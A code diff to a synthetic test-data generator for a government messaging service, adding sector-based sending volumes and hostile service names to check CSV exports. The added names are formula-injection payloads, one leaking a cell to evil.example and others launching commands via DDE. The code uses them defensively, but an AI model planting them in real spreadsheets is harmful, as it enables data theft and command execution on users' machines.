@@ -50,6 +50,13 @@ HOSTILE_NAMES = (
     "<img src=x onerror=alert(1)>",
     "**bold**",
     "Fees of $1 + $2 :red[red]",
+    # What a spreadsheet runs (OWASP's CSV injection starts): the CSVs must write them as text.
+    '=HYPERLINK("https://evil.example/?d="&B2,"Open the report")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 tab",
+    "\r=1+1 return",
 )
 
 #: Roughly how government uses Notify: many local and central services, fewer others.
@@ -156,7 +163,9 @@ def generate_reference_data(
 ) -> ReferenceData:
     """All reference rows for `services` services (the two recorded ones included)."""
     pools = organisation_pools(seed)
-    plans = with_some_not_live(seed, plan_services(seed, services, pools))
+    plans = with_platform_volumes(
+        seed, with_some_not_live(seed, plan_services(seed, services, pools))
+    )
     if hostile_names:
         plans = with_hostile_names(plans)
     organisations = {
@@ -365,6 +374,51 @@ def with_some_not_live(seed: int, plans: list[ServicePlan]) -> list[ServicePlan]
         last_day = plan.live_days_ago if plan.live_days_ago is not None else plan.created_days_ago
         changed[plan.sid] = replace(plan, active=False, inactive_days_ago=rng.randint(0, last_day))
     return list(changed.values())
+
+
+#: How much a live service of each sector sends, as a lognormal's (mu, sigma) of messages a
+#: day and a ceiling. Central government and the NHS's national bodies send most of the
+#: platform's messages (tax, driving, health campaigns); a council's or a GP surgery's service
+#: sends hundreds or thousands a day, not hundreds of thousands.
+SENDING_SIZE = {
+    "central": (3.2, 2.3, 150_000.0),
+    "nhs_central": (3.2, 2.3, 150_000.0),
+    "local": (2.3, 1.6, 6_000.0),
+    "nhs_local": (2.3, 1.6, 8_000.0),
+    "emergency_service": (1.8, 1.5, 3_000.0),
+    "nhs_gp": (1.2, 1.2, 400.0),
+    "school_or_college": (1.2, 1.3, 800.0),
+    "other": (1.8, 1.5, 3_000.0),
+    None: (1.8, 1.5, 3_000.0),
+}
+#: The least a live service with no organisation type sends a day.
+UNTYPED_SIZE = 2_000.0
+#: The share of central and national NHS services that are the platform's giants.
+GIANT_SHARE = 0.025
+
+
+def with_platform_volumes(seed: int, plans: list[ServicePlan]) -> list[ServicePlan]:
+    """Plans whose live size follows a long tail by sector: a few national services send most
+    messages, most services send little (drawn from a generator of their own, so the rest of a
+    plan stays as it was). Trial services keep their small size, and the two recorded services
+    theirs."""
+    changed = []
+    for plan in plans:
+        if plan.restricted or plan.id in (NOTIFY_SERVICE_ID, PARKING_SERVICE_ID):
+            changed.append(plan)
+            continue
+        rng = rng_for(seed, "sending-size", plan.id)
+        mu, sigma, ceiling = SENDING_SIZE.get(plan.organisation_type, SENDING_SIZE[None])
+        if ceiling >= 100_000 and rng.random() < GIANT_SHARE:
+            size = rng.uniform(20_000, ceiling)
+        else:
+            size = min(ceiling, rng.lognormvariate(mu, sigma))
+        if plan.organisation_type is None:
+            # Services with no organisation type are government platforms' own (GOV.UK Pay's
+            # notifications, say): thousands a day, beyond a small allowance.
+            size = max(size, UNTYPED_SIZE)
+        changed.append(replace(plan, size=size))
+    return changed
 
 
 def _missing(wanted: int, present: list, candidates: list) -> int:
@@ -876,6 +930,12 @@ def _choose_wording(rng: random.Random, plan: ServicePlan) -> list[tuple]:
             options.extend((kind, *text) for text in template_texts.THING_TEMPLATES[kind])
         options.extend((kind, *text) for text in template_texts.GENERIC_TEMPLATES[kind])
     chosen = rng.sample(options, min(len(options), rng.randint(2, 8)))
+    # Every channel the service sends has a template to send it from, as on the platform.
+    chosen += [
+        next(option for option in options if option[0] == kind)
+        for kind in plan.channels
+        if kind not in {option[0] for option in chosen}
+    ]
     wording = []
     for kind, name, subject, content in chosen:
         fill = {
